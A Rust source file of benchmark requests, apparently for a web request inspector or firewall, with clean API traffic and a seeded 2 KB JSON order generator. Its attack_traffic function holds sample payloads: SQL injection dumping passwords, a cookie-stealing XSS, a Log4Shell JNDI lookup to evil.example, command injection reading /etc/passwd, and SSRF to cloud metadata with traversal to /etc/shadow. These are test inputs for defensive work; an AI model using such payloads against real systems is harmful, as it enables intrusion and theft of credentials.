//! The benchmark traffic, shared by the criterion benchmark and the `bench_loop` example
//! (which profilers run): a few clean API requests and a few attacks.

use bytes::Bytes;
use http::{HeaderMap, HeaderName, HeaderValue, Method, Uri};

pub struct Req {
    pub method: Method,
    pub uri: Uri,
    pub headers: HeaderMap,
    pub body: Bytes,
    pub size: u64,
}

fn req(method: &str, uri: &str, content_type: Option<&str>, body: &str) -> Req {
    let mut headers = HeaderMap::new();
    for (k, v) in [
        ("host", "api.example.com"),
        (
            "user-agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        ),
        ("accept", "application/json, text/plain, */*"),
        ("accept-language", "en-US,en;q=0.9"),
        ("accept-encoding", "gzip, deflate, br"),
        (
            "authorization",
            "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.c2lnbmF0dXJl",
        ),
        (
            "cookie",
            "session=4f9a8b7c6d5e4f3a2b1c; theme=dark; locale=en-US",
        ),
        ("x-request-id", "9b2f0c1e-7d4a-4c55-8e1b-3f2a1d0c9e88"),
    ] {
        headers.insert(HeaderName::from_static(k), HeaderValue::from_static(v));
    }
    if let Some(ct) = content_type {
        headers.insert("content-type", HeaderValue::from_str(ct).unwrap());
        headers.insert(
            "content-length",
            HeaderValue::from_str(&body.len().to_string()).unwrap(),
        );
    }
    let header_bytes: usize = headers
        .iter()
        .map(|(k, v)| k.as_str().len() + v.len() + 4)
        .sum();
    let size = (method.len() + uri.len() + header_bytes + body.len()) as u64;
    Req {
        method: Method::from_bytes(method.as_bytes()).unwrap(),
        uri: uri.parse().unwrap(),
        headers,
        body: Bytes::from(body.to_string()),
        size,
    }
}

pub fn clean_traffic() -> Vec<Req> {
    let order = r#"{"order_id":"A-10023","customer":{"name":"Maria O'Brien","email":"maria.obrien@example.com","address":{"street":"12 Rue d'Arlon","city":"Luxembourg","zip":"1150"}},"items":[{"sku":"SKU-1","qty":2,"price":19.99,"note":"gift wrap, please"},{"sku":"SKU-7","qty":1,"price":5.5}],"comment":"Please deliver after 6pm; the door code is 4521. Thanks!","tags":["priority","gift"]}"#;
    vec![
        req(
            "GET",
            "/api/v1/products?category=books&sort=price_asc&page=2&per_page=50&q=rust%20programming",
            None,
            "",
        ),
        req("POST", "/api/v1/orders", Some("application/json"), order),
        req(
            "POST",
            "/account/profile",
            Some("application/x-www-form-urlencoded"),
            "first_name=Jean&last_name=Dupont&bio=I+build+APIs+and+select+the+best+tools+from+the+list.&website=https%3A%2F%2Fexample.com%2Fjean",
        ),
        req("GET", "/api/v1/users/9f3c2a/orders/12345/items", None, ""),
    ]
}

pub fn attack_traffic() -> Vec<Req> {
    vec![
        req(
            "GET",
            "/api/v1/products?category=books%27%20UNION%20SELECT%20username,password%20FROM%20users--&page=1",
            None,
            "",
        ),
        req(
            "POST",
            "/api/v1/comments",
            Some("application/json"),
            r#"{"post":17,"body":"<img src=x onerror=alert(document.cookie)>","author":"${jndi:ldap://evil.example/a}"}"#,
        ),
        req(
            "POST",
            "/tools/ping",
            Some("application/x-www-form-urlencoded"),
            "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd&count=3",
        ),
        req(
            "GET",
            "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F&file=..%2F..%2F..%2Fetc%2Fshadow",
            None,
            "",
        ),
    ]
}

fn req_with(method: &str, uri: &str, headers_in: &[(&'static str, &str)], body: &str) -> Req {
    let mut headers = HeaderMap::new();
    for (k, v) in headers_in {
        headers.append(
            HeaderName::from_static(k),
            HeaderValue::from_str(v).unwrap(),
        );
    }
    let header_bytes: usize = headers
        .iter()
        .map(|(k, v)| k.as_str().len() + v.len() + 4)
        .sum();
    let size = (method.len() + uri.len() + header_bytes + body.len()) as u64;
    Req {
        method: Method::from_bytes(method.as_bytes()).unwrap(),
        uri: uri.parse().unwrap(),
        headers,
        body: Bytes::from(body.to_string()),
        size,
    }
}

/// A typical browser GET: eight ordinary headers (two cookies, a Referer) and a short query.
pub fn typical_get() -> Req {
    req_with(
        "GET",
        "/api/v1/products?category=books&page=2",
        &[
            ("host", "shop.example.com"),
            (
                "user-agent",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
            ),
            (
                "accept",
                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
            ),
            ("accept-encoding", "gzip, deflate, br, zstd"),
            ("accept-language", "en-US,en;q=0.9,fr;q=0.8"),
            ("cookie", "session=4f9a8b7c6d5e4f3a2b1c0d9e; theme=dark"),
            ("referer", "https://shop.example.com/catalog/books?page=1"),
            ("x-request-id", "9b2f0c1e-7d4a-4c55-8e1b-3f2a1d0c9e88"),
        ],
        "",
    )
}

/// The small GET of the gateway benchmark (`/work/shared/bench`).
pub fn gateway_get() -> Req {
    req_with(
        "GET",
        "/api/users/42?q=hello",
        &[
            ("host", "localhost"),
            ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) bench/1.0"),
            ("accept", "application/json"),
        ],
        "",
    )
}

/// The 2 KB JSON order of the gateway benchmark (`post-json-2k.lua`).
pub fn order_json_2k() -> Req {
    let body = include_str!("post-json-2k.json");
    req_with(
        "POST",
        "/api/orders",
        &[
            ("host", "localhost"),
            ("content-type", "application/json"),
            ("content-length", &body.len().to_string()),
        ],
        body,
    )
}

fn pick(random: u64, words: &[&'static str]) -> &'static str {
    words[(random % words.len() as u64) as usize]
}

/// A 2 KB JSON order shaped like [`order_json_2k`] whose values differ with `seed` (names,
/// e-mail addresses, SKUs, prices, tags, notes): a stream of bodies never seen before, so
/// that nothing learnt from one body (a memo of silent values, say) helps the next.
pub fn order_json_2k_fresh(seed: u64) -> Req {
    // splitmix64: deterministic, so every run inspects the same stream.
    let mut state = seed
        .wrapping_mul(0x9e37_79b9_7f4a_7c15)
        .wrapping_add(0x2545_f491);
    let mut next = move || {
        state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    };
    const FIRST: &[&str] = &[
        "Alice", "Bruno", "Chen", "Dana", "Emeka", "Fatima", "Gustav", "Hana", "Ivan", "Jules",
        "Keiko", "Lars", "Maria", "Nadia", "Omar", "Priya",
    ];
    const LAST: &[&str] = &[
        "Example",
        "Okafor",
        "Lindqvist",
        "Moreau",
        "Tanaka",
        "Silva",
        "Kowalski",
        "Haddad",
        "Novak",
        "Brennan",
        "Ivanova",
        "Park",
    ];
    const STREETS: &[&str] = &[
        "Main Street",
        "Oak Avenue",
        "Rue de la Gare",
        "Market Square",
        "Hill Road",
        "Station Lane",
        "Harbour View",
        "Elm Court",
    ];
    const CITIES: &[&str] = &[
        "Springfield",
        "Rotterdam",
        "Lyon",
        "Osaka",
        "Porto",
        "Gdansk",
        "Leeds",
        "Austin",
    ];
    const ADJECTIVES: &[&str] = &[
        "Blue", "Red", "Organic", "Wireless", "Compact", "Vintage", "Large", "Quiet", "Green",
        "Leather", "Ceramic", "Folding",
    ];
    const NOUNS: &[&str] = &[
        "cotton shirt",
        "running shoes",
        "coffee beans",
        "mouse",
        "notebook",
        "water bottle",
        "desk lamp",
        "phone case",
        "backpack",
        "teapot",
        "umbrella",
        "keyboard",
    ];
    const TAGS: &[&str] = &[
        "sale",
        "summer",
        "new",
        "gift",
        "clearance",
        "eco",
        "bundle",
        "limited",
        "winter",
    ];
    const NOTE_WORDS: &[&str] = &[
        "please",
        "deliver",
        "after",
        "before",
        "the",
        "parcel",
        "at",
        "front",
        "desk",
        "and",
        "leave",
        "call",
        "me",
        "on",
        "arrival",
        "back",
        "door",
        "or",
        "with",
        "neighbour",
        "ring",
        "twice",
        "thanks",
        "pm",
        "am",
        "gate",
        "code",
    ];
    let first = pick(next(), FIRST);
    let last = pick(next(), LAST);
    let mut body = format!(
        r#"{{"order_id":"ord-2026-{:06}","customer":{{"id":{},"name":"{first} {last}","email":"{}.{}@example.com","phone":"+1 555 {:04}","address":{{"street":"{} {}","city":"{}","zip":"{:05}","country":"{}"}}}},"currency":"{}","items":["#,
        next() % 1_000_000,
        next() % 100_000,
        first.to_ascii_lowercase(),
        last.to_ascii_lowercase(),
        next() % 10_000,
        1 + next() % 400,
        pick(next(), STREETS),
        pick(next(), CITIES),
        next() % 100_000,
        pick(next(), &["US", "NL", "FR", "JP", "PT", "PL", "GB"]),
        pick(next(), &["USD", "EUR", "JPY", "GBP", "PLN"]),
    );
    for i in 0..18 {
        if i > 0 {
            body.push(',');
        }
        body.push_str(&format!(
            r#"{{"sku":"SKU-{:05}","name":"{} {}","qty":{},"unit_price":{}.{:02},"tags":["{}","{}"]}}"#,
            next() % 100_000,
            pick(next(), ADJECTIVES),
            pick(next(), NOUNS),
            1 + next() % 5,
            1 + next() % 200,
            next() % 100,
            pick(next(), TAGS),
            pick(next(), TAGS),
        ));
    }
    body.push_str(r#"],"notes":""#);
    let mut words = 0;
    while words < 12 || (body.len() < 1960 && words < 40) {
        if words > 0 {
            body.push(' ');
        }
        body.push_str(pick(next(), NOTE_WORDS));
        words += 1;
    }
    body.push_str(&format!(r#"","ref":"{:016x}"}}"#, next()));
    req_with(
        "POST",
        "/api/orders",
        &[
            ("host", "localhost"),
            ("content-type", "application/json"),
            ("content-length", &body.len().to_string()),
        ],
        &body,
    )
}
